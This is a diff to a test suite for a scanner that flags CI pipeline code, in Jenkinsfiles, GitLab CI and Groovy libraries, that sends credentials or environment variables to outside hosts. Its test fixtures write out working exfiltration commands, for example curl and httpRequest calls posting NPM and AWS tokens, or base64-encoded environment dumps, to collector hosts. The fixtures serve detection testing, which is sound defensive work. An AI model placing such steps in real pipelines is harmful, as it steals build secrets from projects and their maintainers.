@@ -773,7 +773,8 @@ describe("build-code-behavior: direnv's .envrc", () => {
 describe('build-code-behavior: pipelines of other CI systems (GitLab CI, Jenkins, …)', () => {
   it('reports secrets or the environment sent out of a pipeline, critical; a send to or download from such a host, high', () => {
     const jenkins = buildFinding(added('Jenkinsfile', "pipeline {\n  agent any\n  stages {\n    stage('Build') {\n      steps {\n        withCredentials([string(credentialsId: 'npm-token', variable: 'NPM_TOKEN')]) {\n          sh 'curl -s -d \"t=$NPM_TOKEN\" https://webhook.site/3f1c2a'\n        }\n      }\n    }\n  }\n}"));
-    expect(jenkins).toMatchObject({ severity: 'critical', path: 'Jenkinsfile', line: 6, title: 'Jenkinsfile sends credentials or the environment to a host when CI runs it' });
+    // At the line that sends the npm token to a host not npm's (secret-elsewhere leads), not the binding's.
+    expect(jenkins).toMatchObject({ severity: 'critical', path: 'Jenkinsfile', line: 7, title: 'Jenkinsfile sends credentials or the environment to a host when CI runs it' });
     expect(buildFinding(added('.gitlab-ci.yml', 'build:\n  script:\n    - npm ci\n    - curl -s -X POST --data "k=$AWS_SECRET_ACCESS_KEY" http://45.77.12.9:8080/c'))).toMatchObject({ severity: 'critical', line: 4 });
     expect(buildFinding(added('jenkins/release.groovy', 'def call() {\n  sh """\n    env | base64 -w0 | curl -s -d @- https://ci-metrics.example.net/in\n  """\n}'))).toMatchObject({ severity: 'critical', line: 3 });
     expect(buildFinding(added('.circleci/config.yml', 'jobs:\n  build:\n    steps:\n      - run: curl -s -o seed.sql https://pastebin.com/raw/x1y2z3'))).toMatchObject({ severity: 'high' });
@@ -788,6 +789,29 @@ describe('build-code-behavior: pipelines of other CI systems (GitLab CI, Jenkins
       // Build notifications to a chat service's incoming webhook, its token in the URL.
       ['.gitlab-ci.yml', 'notify:\n  script:\n    - curl -X POST -H "Content-type: application/json" --data "{\\"text\\":\\"deployed\\"}" https://hooks.slack.com/services/$SLACK_WEBHOOK_TOKEN'],
       ['Jenkinsfile', "node {\n  sh 'curl -s -H \"Content-Type: application/json\" -d \"{\\\"content\\\":\\\"built\\\"}\" https://discord.com/api/webhooks/$DISCORD_WEBHOOK'\n}"],
+    ] as const) expect(buildFinding(added(path, text)), text).toBeNull();
+  });
+
+  it("reads Jenkins' httpRequest as a send, and a credential named for one service sent as data to another's host as high (GhostAction in a pipeline)", () => {
+    // The HTTP Request plugin posting a bound credential to a collector: critical, as curl would be.
+    const posted = "pipeline {\n  agent any\n  stages {\n    stage('Stats') {\n      steps {\n        withCredentials([string(credentialsId: 'npm-token', variable: 'NPM_TOKEN')]) {\n          httpRequest url: 'https://webhook.site/0b1c2d3e', httpMode: 'POST', requestBody: \"t=${NPM_TOKEN}\"\n        }\n      }\n    }\n  }\n}";
+    expect(buildFinding(added('Jenkinsfile', posted))).toMatchObject({ severity: 'critical', line: 7 });
+    // To an ordinary-looking host: a variable named for npm, a binding named by its credential's id, an environment credential's _PSW.
+    expect(buildFinding(added('Jenkinsfile', "node {\n  withCredentials([string(credentialsId: 'npm-token', variable: 'NPM_TOKEN')]) {\n    sh 'curl -s -X POST -d \"t=$NPM_TOKEN\" https://stats.buildmetrics.io/v1'\n  }\n}"))).toMatchObject({ severity: 'high', line: 3 });
+    expect(buildFinding(added('vars/notifyBuild.groovy', "def call() {\n  withCredentials([string(credentialsId: 'npm-token', variable: 'T')]) {\n    httpRequest url: 'https://build-stats.ci-metrics.net/collect', httpMode: 'POST', requestBody: \"{\\\"t\\\":\\\"${T}\\\"}\"\n  }\n}"))).toMatchObject({ severity: 'high', path: 'vars/notifyBuild.groovy', line: 3, title: "notifyBuild.groovy sends a credential to another service's host when a pipeline that loads the library runs it" });
+    expect(buildFinding(added('Jenkinsfile', "pipeline {\n  environment {\n    AWS = credentials('aws-prod')\n  }\n  stages {\n    stage('Stats') { steps { httpRequest(url: 'https://stats.buildmetrics.io/v1', httpMode: 'POST', requestBody: \"s=${env.AWS_PSW}\") } }\n  }\n}"))).toMatchObject({ severity: 'high', line: 6 });
+    expect(buildFinding(added('.gitlab-ci.yml', 'stats:\n  script:\n    - curl -s -X POST -d "k=$PYPI_API_TOKEN" https://ci-stats.buildmetrics.io/v1'))).toMatchObject({ severity: 'high', line: 3 });
+  });
+
+  it("is quiet on a credential used as the request's own (a header, authentication:, -u), sent to its own service, a generic name, or a URL the line does not show", () => {
+    for (const [path, text] of [
+      ['Jenkinsfile', "node {\n  httpRequest url: 'https://nexus.acme.dev/service/rest/v1/components?repository=releases', httpMode: 'POST', authentication: 'nexus-creds', uploadFile: 'dist/app.zip', multipartName: 'file'\n}"],
+      ['Jenkinsfile', "node {\n  withCredentials([string(credentialsId: 'slack-token', variable: 'SLACK_TOKEN')]) {\n    httpRequest url: 'https://slack.com/api/chat.postMessage', httpMode: 'POST', customHeaders: [[name: 'Authorization', value: \"Bearer ${SLACK_TOKEN}\", maskValue: true]], requestBody: '{}'\n  }\n}"],
+      ['Jenkinsfile', "node {\n  withCredentials([string(credentialsId: 'sonar-token', variable: 'T')]) {\n    sh 'curl -X POST -d \"token=$T\" https://sonarqube.acme.dev/api/ce/submit'\n  }\n}"],
+      ['Jenkinsfile', "node {\n  withCredentials([string(credentialsId: 'deploy-token', variable: 'TOKEN')]) {\n    httpRequest url: 'https://deploy.acme.dev/hooks', httpMode: 'POST', requestBody: \"t=${TOKEN}\"\n  }\n}"],
+      ['.gitlab-ci.yml', 'trigger:\n  script:\n    - curl -X POST -F token=$CI_JOB_TOKEN -F ref=main https://gitlab.acme.dev/api/v4/projects/1/trigger/pipeline'],
+      ['.gitlab-ci.yml', 'coverage:\n  script:\n    - curl -F "token=$CODECOV_TOKEN" -F "file=@coverage.xml" https://codecov.io/upload/v4'],
+      ['Jenkinsfile', "node {\n  withCredentials([string(credentialsId: 'npm-token', variable: 'NPM_TOKEN')]) {\n    sh 'curl -X POST -d \"t=$NPM_TOKEN\" $STATS_URL'\n  }\n}"],
     ] as const) expect(buildFinding(added(path, text)), text).toBeNull();
   });
 });
